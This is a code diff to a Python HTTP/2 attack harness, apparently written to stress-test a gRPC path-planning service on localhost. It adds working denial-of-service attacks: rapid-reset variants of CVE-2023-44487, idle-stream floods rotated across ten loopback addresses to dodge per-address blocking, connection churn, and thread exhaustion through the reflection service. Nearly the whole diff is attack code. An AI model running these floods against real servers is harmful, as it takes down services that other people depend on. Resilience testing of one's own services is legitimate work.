@@ -12,6 +12,8 @@ import time
 import http2
 
 PLAN_ROUTE = "/waystone.v1.PathPlanning/PlanRoute"
+HEALTH = "/grpc.health.v1.Health/Check"
+REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
 
 
 def drain(connection, seconds=0.0):
@@ -53,11 +55,68 @@ def window_zero(port, seconds, request, streams=1000):
     return streams
 
 
+def reset(port, seconds, method, request):
+    cancel = struct.pack(">I", 8)
+    return repeat(port, seconds, lambda i: http2.call((1 + 2 * i) & 0x7FFFFFFF, method, request) +
+                  http2.frame(http2.RST_STREAM, 0, (1 + 2 * i) & 0x7FFFFFFF, cancel))
+
+
 def rapid_reset(port, seconds, request):
     """Begins calls and resets them at once (CVE-2023-44487)."""
-    cancel = struct.pack(">I", 8)
-    return repeat(port, seconds, lambda i: http2.call((1 + 2 * i) & 0x7FFFFFFF, PLAN_ROUTE, request) +
-                  http2.frame(http2.RST_STREAM, 0, (1 + 2 * i) & 0x7FFFFFFF, cancel))
+    return reset(port, seconds, PLAN_ROUTE, request)
+
+
+def rapid_reset_inline(port, seconds, _):
+    """The same with requests of nothing, which are answered before anybody sees the reset."""
+    return reset(port, seconds, PLAN_ROUTE, b"")
+
+
+def rapid_reset_health(port, seconds, _):
+    """The same with a service that is gRPC's own."""
+    return reset(port, seconds, HEALTH, b"")
+
+
+def idle_streams(port, seconds, _, connections=90, streams=2000):
+    """Calls of which only the headers come, on many connections; ten addresses, as one of which a connection is ended is shunned."""
+    begun = b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS, 1 + 2 * i, http2.call_headers(PLAN_ROUTE))
+                     for i in range(streams))
+    opened = []
+    end = time.monotonic() + seconds
+    for i in range(connections):
+        try:
+            opened.append(http2.open_connection(port, f"127.0.0.{66 + i % 10}"))
+            opened[-1].sendall(begun)
+        except OSError:
+            pass
+        time.sleep(seconds / 2 / connections)
+    while time.monotonic() < end:
+        opened = [connection for connection in opened if drain(connection)]
+        time.sleep(0.1)
+    return connections * streams
+
+
+def churn(port, seconds, _, calls=1000):
+    """Connections that begin a thousand calls and are gone, one after another: none lives to be counted."""
+    body = b"".join(http2.call(1 + 2 * i, PLAN_ROUTE, b"") for i in range(calls))
+    end = time.monotonic() + seconds
+    tried = 0
+    while time.monotonic() < end:
+        try:
+            with http2.open_connection(port) as connection:
+                connection.sendall(body)
+        except OSError:
+            pass
+        tried += 1
+    return tried
+
+
+def reflection(port, seconds, _, streams=1000):
+    """Open streams of reflection, a service that is gRPC's own and takes a thread for each."""
+    connection = http2.open_connection(port)
+    connection.sendall(b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS, 1 + 2 * i, http2.call_headers(REFLECTION))
+                                for i in range(streams)))
+    drain(connection, seconds)
+    return streams
 
 
 def empty_data(port, seconds, _):
@@ -166,7 +225,7 @@ def descriptors(port, seconds, _, connections=600):
 
 
 ATTACKS = {attack.__name__: attack for attack in
-           (window_zero, rapid_reset, empty_data, unfinished, settings, ping, continuation, many_connections, slow_preface,
+           (window_zero, rapid_reset, rapid_reset_inline, rapid_reset_health, idle_streams, churn, reflection, empty_data, unfinished, settings, ping, continuation, many_connections, slow_preface,
             descriptors)}
 
 if __name__ == "__main__":
